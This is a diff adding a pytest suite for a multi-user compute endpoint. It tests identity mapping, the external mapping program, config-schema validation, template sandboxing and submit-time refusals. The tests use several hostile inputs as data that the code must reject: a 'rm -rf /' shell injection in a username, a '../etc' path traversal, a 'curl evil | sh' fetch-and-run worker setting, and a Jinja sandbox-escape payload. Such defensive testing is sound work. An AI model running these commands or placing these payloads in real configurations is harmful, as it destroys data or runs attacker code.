@@ -1,0 +1,183 @@
+"""Pure checks of multi-user endpoints (default suite, no root needed): the
+identity mapping rules, the external mapping program's JSON in/out, the user
+config schema and the sandboxed template, the service's submit-time check."""
+from __future__ import annotations
+
+import json
+import os
+import stat
+import sys
+from pathlib import Path
+
+import pytest
+
+from endpoint.multiuser import configure, render, site_config
+from endpoint.multiuser.mapper import Mapper, Unmapped, run_program
+from funcx.protocol import error_codes
+from funcx.protocol import identity_mapping as im
+from funcx.protocol.user_config import UserConfigError, validate
+
+ALICE = {"id": "6f1c0e3a-0000-4000-8000-000000000001", "username": "alice@uni.edu"}
+
+
+def _rules(*mappings: dict) -> im.Mapping:
+    return im.parse({"DATA_TYPE": im.EXPRESSION, "mappings": list(mappings)})
+
+
+def test_expression_rule_with_captures():
+    m = _rules({"source": "{username}", "match": r"(.*)@uni\.edu", "output": "{0}"})
+    assert im.map_by_rules(m, ALICE) == "alice"
+    assert im.map_by_rules(m, {"id": "x", "username": "alice@other.org"}) is None
+    # the match is whole: a suffix does not sneak through
+    assert im.map_by_rules(m, {"id": "x", "username": "alice@uni.edu.evil"}) is None
+
+
+def test_rules_in_order_ignore_case_literal_and_bad_accounts():
+    m = im.parse([
+        {"DATA_TYPE": im.EXPRESSION, "mappings": [
+            {"source": "{username}", "match": "ADMIN@UNI.EDU", "output": "ops",
+             "ignore_case": True, "literal": True},
+            {"source": "{username}", "match": "(.*)@uni.edu", "output": "{0}"}]}])
+    assert im.map_by_rules(m, {"id": "1", "username": "admin@uni.edu"}) == "ops"
+    assert im.map_by_rules(m, ALICE) == "alice"
+    # an output that is no account name (path, shell syntax) maps nothing
+    assert im.map_by_rules(m, {"id": "1", "username": "../etc@uni.edu"}) is None
+    assert im.map_by_rules(m, {"id": "1", "username": "a;rm -rf /@uni.edu"}) is None
+
+
+@pytest.mark.parametrize("doc, words", [
+    ({"DATA_TYPE": "nope"}, "DATA_TYPE"),
+    ({"DATA_TYPE": im.EXPRESSION, "mappings": []}, "non-empty list"),
+    ({"DATA_TYPE": im.EXPRESSION, "mappings": [{"source": "{email2}", "match": "x",
+                                                "output": "x"}]}, "source field"),
+    ({"DATA_TYPE": im.EXPRESSION, "mappings": [{"source": "{id}", "match": "(",
+                                                "output": "x"}]}, "regular expression"),
+    ({"DATA_TYPE": im.EXTERNAL, "command": "prog"}, "list of strings"),
+])
+def test_bad_mapping_documents_are_refused_with_the_reason(doc, words):
+    with pytest.raises(im.MappingConfigError, match=words):
+        im.parse(doc)
+
+
+def test_external_program_json_in_and_out(tmp_path):
+    prog = tmp_path / "map.py"
+    prog.write_text(
+        "import json, sys\n"
+        "doc = json.load(sys.stdin)\n"
+        "assert doc['DATA_TYPE'] == 'identity_mapping_input#1.0.0'\n"
+        "i = doc['identities'][0]\n"
+        "out = [{'id': i['id'], 'output': i['username'].split('@')[0]}] "
+        "if i['username'].endswith('@uni.edu') else []\n"
+        "print(json.dumps({'DATA_TYPE': 'identity_mapping_output#1.0.0', 'result': out}))\n")
+    cmd = (sys.executable, str(prog))
+    assert run_program(cmd, ALICE, 10) == "alice"
+    assert run_program(cmd, {"id": "2", "username": "eve@evil.org"}, 10) is None
+    # an answer for another id is not taken
+    assert im.program_output({"DATA_TYPE": im.OUTPUT, "result": [{"id": "other",
+                                                                   "output": "root"}]},
+                             ALICE) is None
+    assert not im.parse({"DATA_TYPE": im.EXTERNAL, "command": list(cmd)}).service_decidable
+
+
+def _site(tmp_path: Path, mapping: object) -> site_config.SiteConfig:
+    configure.write(tmp_path / "ep", "site", tmp_path)
+    (tmp_path / "ep" / site_config.MAPPING_FILE).write_text(json.dumps(mapping))
+    return site_config.load(tmp_path / "ep")
+
+
+def test_mapper_refuses_root_system_and_missing_accounts(tmp_path):
+    cfg = _site(tmp_path, {"DATA_TYPE": im.EXPRESSION, "mappings": [
+        {"source": "{username}", "match": "(.*)", "output": "{0}"}]})
+    mapper = Mapper(cfg)
+    with pytest.raises(Unmapped, match="denied"):
+        mapper.map({"id": "1", "username": "root"})
+    with pytest.raises(Unmapped, match="min_uid"):
+        mapper.map({"id": "2", "username": "daemon"})  # uid 1 on Debian
+    with pytest.raises(Unmapped, match="does not exist"):
+        mapper.map({"id": "3", "username": "no-such-account-xyz"})
+
+
+def test_configure_writes_the_files_and_they_load(tmp_path):
+    written = configure.write(tmp_path / "ep", "site", tmp_path / "home")
+    names = {p.name for p in written}
+    assert {"config.py", "multi_user.yaml", "identity_mapping.json",
+            "user_config_template.yaml.j2", "user_config_schema.json",
+            "funcx-endpoint-site.service"} <= names
+    for p in written:  # the site's settings are the administrator's alone
+        assert stat.S_IMODE(os.stat(p).st_mode) == 0o600
+    unit = (tmp_path / "ep" / "funcx-endpoint-site.service").read_text()
+    assert "ExecStart=" in unit and "-m endpoint.daemon site" in unit
+    cfg = site_config.load(tmp_path / "ep")
+    assert cfg.published()["multi_user"] is True
+    assert cfg.published()["identity_mapping"][0]["DATA_TYPE"] == im.EXPRESSION
+
+
+def test_site_config_errors_name_the_file(tmp_path):
+    configure.write(tmp_path / "ep", "site", tmp_path)
+    (tmp_path / "ep" / "user_config_schema.json").write_text('{"type": 7}')
+    with pytest.raises(site_config.SiteConfigError, match="user_config_schema.json"):
+        site_config.load(tmp_path / "ep")
+    (tmp_path / "ep" / "user_config_schema.json").write_text("{}")
+    (tmp_path / "ep" / "user_config_template.yaml.j2").write_text("workers: {{ x")
+    with pytest.raises(site_config.SiteConfigError, match="user_config_template"):
+        site_config.load(tmp_path / "ep")
+
+
+SCHEMA = configure.SCHEMA
+
+
+def test_schema_refuses_values_outside_it_naming_the_field():
+    assert validate({"workers": 3}, SCHEMA) == {"workers": 3}
+    with pytest.raises(UserConfigError, match="workers.*greater than the maximum"):
+        validate({"workers": 99}, SCHEMA)
+    with pytest.raises(UserConfigError, match="Additional properties"):
+        validate({"worker_init": "curl evil | sh"}, SCHEMA)
+
+
+def test_template_values_are_data_never_syntax():
+    # a schema that lets any string through: the template still cannot be escaped
+    loose = {"type": "object", "properties": {"working_dir": {"type": "string"}}}
+    out = render.render(configure.TEMPLATE, loose,
+                        {"working_dir": "x\nworkers: 1000\n__import__('os')"})
+    assert out["working_dir"] == "x\nworkers: 1000\n__import__('os')"
+    assert out["workers"] == 2  # the template's default, not the injected line
+    # the sandbox refuses attribute games
+    with pytest.raises(render.TemplateError):
+        render.render("workers: {{ ''.__class__.__mro__[1].__subclasses__() }}", {}, {})
+    # a rendered option outside its range is refused
+    with pytest.raises(render.TemplateError, match="workers"):
+        render.render("workers: {{ n }}", {"type": "object"}, {"n": 0})
+
+
+def test_service_refuses_unmapped_identity_and_bad_config():
+    from backend.api_errors import ApiError
+    from backend.multiuser import check_submit
+
+    meta = {"multi_user": True, "user_config_schema": SCHEMA,
+            "identity_mapping": [{"DATA_TYPE": im.EXPRESSION, "mappings": [
+                {"source": "{username}", "match": "(alice|bob)", "output": "{0}"}]}]}
+    ep = {"metadata": json.dumps(meta)}
+    who, values = check_submit(ep, "e", {"id": "1", "username": "alice"}, {"workers": 2})
+    assert who == {"id": "1", "username": "alice"} and values == {"workers": 2}
+    with pytest.raises(ApiError) as e:
+        check_submit(ep, "e", {"id": "2", "username": "mallory"}, None)
+    assert (e.value.status, e.value.code) == (403, error_codes.IDENTITY_UNMAPPED)
+    with pytest.raises(ApiError) as e:
+        check_submit(ep, "e", {"id": "1", "username": "alice"}, {"workers": 100})
+    assert (e.value.status, e.value.code) == (400, error_codes.USER_ENDPOINT_CONFIG_INVALID)
+    assert "workers" in e.value.message
+    # not multi-user: the config is ignored as before and no identity is written
+    assert check_submit({"metadata": "{}"}, "e", {"id": "1", "username": "x"},
+                        {"a": 1}) == ({}, {})
+
+
+def test_task_entry_carries_identity_and_config():
+    from funcx.protocol.messages import Task
+    from funcx.protocol.streams import decode_task_entry, encode_task_batch
+
+    t = Task("6f1c0e3a-0000-4000-8000-000000000001", "6f1c0e3a-0000-4000-8000-000000000002",
+             "p", identity={"id": "1", "username": "alice"},
+             user_endpoint_config={"workers": 2})
+    back = decode_task_entry(encode_task_batch([t]))[0]
+    assert back.identity == {"id": "1", "username": "alice"}
+    assert back.user_endpoint_config == {"workers": 2}
